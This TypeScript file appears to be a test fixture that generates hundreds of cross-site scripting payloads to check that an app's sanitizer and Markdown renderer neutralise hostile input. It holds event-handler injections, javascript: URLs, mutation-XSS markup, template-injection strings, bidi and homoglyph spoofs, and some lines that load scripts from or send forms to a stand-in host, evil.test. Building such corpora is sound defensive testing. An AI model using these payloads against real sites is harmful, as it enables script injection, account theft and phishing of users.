/**
 * Texts that would run `ran(1)` wherever one of them became more than text: markup, attributes, addresses, templates, styles,
 * what parsers repair into something else, directions and letters that pretend. Made from parts, so that many forms are there.
 */
const RUN = 'ran(1)'
/** `ran(1)` without letters that a filter would look for. */
const RUNS = [RUN, 'top["ran"](1)', 'eval(atob("cmFuKDEp"))', 'ran`1`', '\\u0072an(1)', 'setTimeout("ran(1)")']

const EVENTS = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
  'onbegin',
  'ONERROR',
]
const TAGS = [
  'img',
  'svg',
  'video',
  'audio',
  'input',
  'details',
  'body',
  'iframe',
  'marquee',
  'object',
  'x-y',
  'cairn-rich-text',
]
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java\tscript:',
  'java\nscript:',
  '\u0001javascript:',
  'javascript&colon;',
  'javascript\u00ad:',
  'vbscript:',
  'data:text/html,<script>ran(1)</script>//',
  'data:image/svg+xml,<svg onload="ran(1)"/>//',
  'blob:',
  'filesystem:',
  'view-source:javascript:',
  'feed:javascript:',
  'jar:javascript:',
  'livescript:',
  '//evil.test/',
  '\\\\evil.test\\',
  'https:evil.test',
  'https://user@evil.test/?',
]
const AROUND_ADDRESS = [
  (address: string) => `[press](${address})`,
  (address: string) => `[press](<${address}>)`,
  (address: string) => `![x](${address})`,
  (address: string) => `<${address}>`,
  (address: string) => `[press][r]\n\n[r]: ${address}`,
  (address: string) => `<a href="${address}">press</a>`,
]
const BREAK_OUT = [
  '',
  '">',
  "'>",
  '`>',
  '--></textarea>',
  '</script>',
  '</style>',
  '</title>',
  '</template>',
  ']]>',
  '*/',
  '}-->',
  '\u0000',
  '%22%3E',
  '&quot;&gt;',
  '\\">',
]
/** What browsers have repaired into elements that a cleaner had not seen. */
const REPAIRED = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=ran(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=ran(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=ran(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran(1)>',
  '<select><template><img src=x onerror=ran(1)></template></select>',
  '<template><script>ran(1)</script></template>',
  '<table><td background="javascript:ran(1)">',
  '<svg><animate xlink:href=#x attributeName=href values=javascript:ran(1) /><a id=x><text x=20 y=20>XSS</text></a>',
  '<svg><set attributeName="onload" to="ran(1)"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.ran(1)</script>"></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=ran(1) /></svg>#x">',
  '<iframe srcdoc="&lt;script&gt;parent.ran(1)&lt;/script&gt;"></iframe>',
  '<object data="javascript:ran(1)">',
  '<embed src="javascript:ran(1)">',
  '<base href="javascript:ran(1)//">',
  '<meta http-equiv=refresh content="0;url=javascript:ran(1)">',
  '<link rel=stylesheet href="data:text/css,*{background:red}">',
  '<script src=//evil.test/x.js></script>',
  '<script type=module>import"data:text/javascript,ran(1)"</script>',
  '<style>@import"//evil.test/x.css";*{animation:x}@keyframes x{}</style>',
  '<div style="background:url(//evil.test/x)">',
  '<p style=x:expression(ran(1))>',
  '<input autofocus onfocus=ran(1)>',
  '<details open ontoggle=ran(1)>',
  '<video><source onerror=ran(1)>',
  '<img srcset=",x" onerror=ran(1)>',
  '<img src=x:x onerror=ran(1)//',
  '<IMG """><SCRIPT>ran(1)</SCRIPT>">',
  '<<script>ran(1);//<</script>',
  '<scr<script>ipt>ran(1)</scr</script>ipt>',
  '<a href="https://evil.test" target=_top ping=//evil.test/p>x</a>',
  '<form action=//evil.test><button>x</button></form>',
  '<portal src=//evil.test>',
  '<dialog open><button popovertarget=x>x</button></dialog>',
  '<slot name=foot></slot>',
  '<div is=cairn-app></div>',
  '<!DOCTYPE html><html onload=ran(1)>',
]
/** What template languages and this app's own would take for theirs. */
const TEMPLATES = [
  '${ran(1)}',
  '{{constructor.constructor("ran(1)")()}}',
  '<%= ran(1) %>',
  '#{ran(1)}',
  '{{{ran(1)}}}',
  '[[${ran(1)}]]',
  '@{ran(1)}',
  '{% ran(1) %}',
  '<!--?lit$123$-->',
  '<!--lit-part-->',
  '<?lit$ran(1)$?>',
  '.innerHTML=${x}',
  '{n, plural, one {<b>} other {#}}',
  '{name}',
  "{'}{count, number}",
  '__proto__',
  'constructor',
  'toString',
]
const DIRECTIONS = [
  '\u202e)1(nar:tpircsavaj\u202c',
  'invoice\u202efdp.exe',
  '\u2066\u2067\u2068deep\u2069',
  '\u200f\u200f\u200f',
  'Z\u0351\u036b\u0343a\u0363\u0346l\u0357g\u0354o'.repeat(8),
  '\ufeff\u200b\u200d',
  '\ud800',
  '\udc00lone',
  '\u0000\u0007\u001b[31m',
  '\u2028\u2029',
  '＜script＞ran(1)＜/script＞',
  '‹img src=x onerror=ran(1)›',
  '𝒿𝒶𝓋𝒶𝓈𝒸𝓇𝒾𝓅𝓉:ran(1)',
  '[bank.example](https://evil.test)',
  'https://b\u0430nk.example',
  '\uff0e\uff0e/\uff0e\uff0e/etc',
]
const MARKDOWN = [
  '`<img src=x onerror=ran(1)>`',
  '```html\n<script>ran(1)</script>\n```',
  '```"><img src=x onerror=ran(1)>\n1\n```',
  '> <svg onload=ran(1)>',
  '- <img src=x onerror=ran(1)>\n  - [x](javascript:ran(1))',
  '**<b onclick=ran(1)>b</b>**',
  '[a](javascript:ran(1) "title")',
  '[<img src=x onerror=ran(1)>](https://evil.test)',
  '[a](https://evil.test "\\" onmouseover=ran(1) ")',
  'https://evil.test/"onmouseover="ran(1)',
  "https://evil.test/'><img src=x onerror=ran(1)>",
  '[x]: javascript:ran(1)\n[x]',
  '<https://evil.test/" onclick=ran(1)>',
  '@everyone<script>ran(1)</script>',
  '#general"><img src=x onerror=ran(1)>',
  '| a | <img src=x onerror=ran(1)> |\n|---|---|',
  '~~<marquee onstart=ran(1)>~~',
  '[a](\\javascript:ran(1))',
  '[a](#/c/general"onclick="ran(1))',
  `${location()}#/c/%22%3E%3Cimg%20src=x%20onerror=ran(1)%3E`,
]

/** At least 300, each once. */
export function hostileMarkup(): string[] {
  const events = EVENTS.flatMap((event, i) =>
    TAGS.map(
      (tag, j) =>
        `<${tag} src=x ${event}${j % 3 === 0 ? '\n=\n' : '='}${j % 2 ? '"' : ''}${RUNS[(i + j) % RUNS.length]!}${j % 2 ? '"' : ''}>`,
    ),
  )
  const addresses = SCHEMES.flatMap((scheme) => AROUND_ADDRESS.map((around) => around(`${scheme}${RUN}`)))
  const breaks = BREAK_OUT.flatMap((end) => [`${end}<script>${RUN}</script>`, `${end}<img src=x onerror=${RUN}>`])
  return [...new Set([...REPAIRED, ...TEMPLATES, ...DIRECTIONS, ...MARKDOWN, ...events, ...addresses, ...breaks])]
}

function location(): string {
  return 'http://127.0.0.1/'
}
